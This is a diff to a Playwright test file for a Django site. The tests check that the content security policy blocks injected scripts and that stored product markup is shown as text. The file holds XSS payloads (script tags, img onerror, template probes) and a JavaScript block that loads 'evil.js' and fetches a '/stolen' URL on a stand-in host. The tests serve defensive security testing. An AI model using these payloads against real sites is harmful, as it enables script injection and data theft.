@@ -1,17 +1,20 @@
-"""What the browser enforces: the content security policy on every page, and what is left after logging out."""
+"""What the browser enforces: the content security policy, and no page after logging out."""
 
 import json
 import re
 from collections.abc import Iterator
-from typing import Any
 
 import pytest
-from axe_playwright_python.sync_playwright import Axe
 from django.contrib.admin.utils import quote
 from playwright.sync_api import Browser, Page, expect
 
-from tests.security.test_every_url import TABLE
-from tests.support.browser import PASSWORD, LiveSite, open_window
+from tests.support.browser import (
+    PASSWORD,
+    LiveSite,
+    open_window,
+    serious_accessibility_faults,
+)
+from tests.support.url_table import TABLE
 
 NAME = "<script>document.hacked=1</script>"
 MARKUP = """"><img src=x onerror="document.hacked=1">'-alert(1)-'{{7*7}}`"""
@@ -19,7 +22,7 @@ MARKUP = """"><img src=x onerror="document.hacked=1">'-alert(1)-'{{7*7}}`"""
 
 @pytest.fixture
 def root(browser: Browser, site: LiveSite) -> Iterator[Page]:
-    """A superuser's window, which fails the test for each violation of the policy: the browser logs it as an error."""
+    """A window of a superuser. It fails the test for each violation of the policy."""
     with open_window(browser, site, "root") as page:
         yield page
 
@@ -41,14 +44,12 @@ def issued_token(page: Page, site: LiveSite) -> str:
     page.select_option("[name=user]", label="root")
     page.fill("[name=label]", MARKUP)
     page.get_by_role("button", name="Save", exact=True).click()
-    expect(page.get_by_text("The token, shown only now")).to_be_visible()
+    expect(page.get_by_text("Copy this token now")).to_be_visible()
     link = page.locator("#result_list a[href*='/apitoken/']").first.get_attribute("href") or ""
     return link.split("/apitoken/")[1].split("/")[0]
 
 
-def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
-    root: Page, site: LiveSite
-) -> None:
+def test_markup_in_a_product_is_text_on_every_page(root: Page, site: LiveSite) -> None:
     site.create("policy-1", name=NAME, description=MARKUP, features=[MARKUP, NAME], period=MARKUP)
     site.create("policy-2", name=MARKUP, description=NAME)
     site.change("policy-1", price="7.00")
@@ -78,7 +79,7 @@ def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
             root.goto(url)
             assert root.evaluate("document.hacked") is None, url
     root.goto(site.url("/admin/products/product/bulk/?id=policy-1&id=policy-2"))
-    root.get_by_label("By", exact=True).fill("10")
+    root.get_by_label("Percent or amount").fill("10")
     root.get_by_role("button", name="Preview").click()
     expect(root.get_by_role("button", name="Apply to 2 products")).to_be_visible()
     assert root.evaluate("document.hacked") is None
@@ -88,12 +89,15 @@ def test_no_page_violates_the_policy_and_markup_in_a_product_is_text_everywhere(
 
 INJECT = """async () => {
     const blocked = [];
-    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+    document.addEventListener("securitypolicyviolation", (event) => {
+      blocked.push(event.effectiveDirective);
+    });
     const script = document.createElement("script");
     script.textContent = "document.hacked = 1";
     document.body.append(script);
     const box = document.createElement("div");
-    box.innerHTML = '<img src="x" onerror="document.hacked = 1"><a href="javascript:document.hacked = 1">x</a>'
+    box.innerHTML = '<img src="x" onerror="document.hacked = 1">'
+      + '<a href="javascript:document.hacked = 1">x</a>'
       + '<style>body { --hacked: 1 }</style><object data="/admin/"></object>'
       + '<iframe src="/admin/"></iframe><script src="https://example.com/evil.js"></' + 'script>';
     document.body.append(box);
@@ -103,13 +107,15 @@ INJECT = """async () => {
     document.body.append(outside);
     await fetch("https://example.com/stolen").catch(() => 0);
     const until = Date.now() + 10000;
-    while (new Set(blocked).size < 6 && Date.now() < until) await new Promise((done) => setTimeout(done, 20));
+    while (new Set(blocked).size < 6 && Date.now() < until) {
+      await new Promise((done) => setTimeout(done, 20));
+    }
     const styled = getComputedStyle(document.body).getPropertyValue("--hacked");
     return [[...new Set(blocked)].sort(), document.hacked ?? null, styled];
 }"""
 
 
-def test_injected_markup_runs_nothing_and_reaches_nowhere(stranger: Page, site: LiveSite) -> None:
+def test_injected_markup_is_blocked(stranger: Page, site: LiveSite) -> None:
     for address in ("/admin/login/", "/v1.0/docs", "/v1.0/products"):
         stranger.goto(site.url(address))
         assert stranger.evaluate(INJECT) == [
@@ -126,7 +132,7 @@ def test_injected_markup_runs_nothing_and_reaches_nowhere(stranger: Page, site: 
         ]
 
 
-def test_swagger_ui_and_the_browsable_api_work_within_it(root: Page, site: LiveSite) -> None:
+def test_swagger_ui_and_browsable_api_work_under_the_policy(root: Page, site: LiveSite) -> None:
     root.goto(site.url("/v1.0/docs"))
     listing = root.locator("#operations-products-products_list, .opblock-get").first
     listing.locator(".opblock-summary").click()
@@ -167,15 +173,12 @@ def log_in(page: Page, site: LiveSite, name: str, password: str) -> None:
     page.click("[type=submit]")
 
 
-def test_the_lock_says_when_to_try_again_and_can_be_read_by_everyone(
-    stranger: Page, site: LiveSite
-) -> None:
+def test_the_lockout_page_is_accessible_and_says_how_long(stranger: Page, site: LiveSite) -> None:
     for _ in range(4):
         log_in(stranger, site, "mallory", "a guess")
         expect(stranger.get_by_text("Please correct the error")).to_be_visible()
     log_in(stranger, site, "mallory", "a guess")
     expect(stranger.get_by_role("alert")).to_contain_text("Please try again in 15 minutes")
-    found: Any = Axe().run(stranger).response["violations"]
-    assert [rule["id"] for rule in found if rule["impact"] in {"serious", "critical"}] == []
+    assert serious_accessibility_faults(stranger) == []
     stranger.get_by_role("link", name="Try again").click()
     expect(stranger.locator("[name=password]")).to_be_visible()
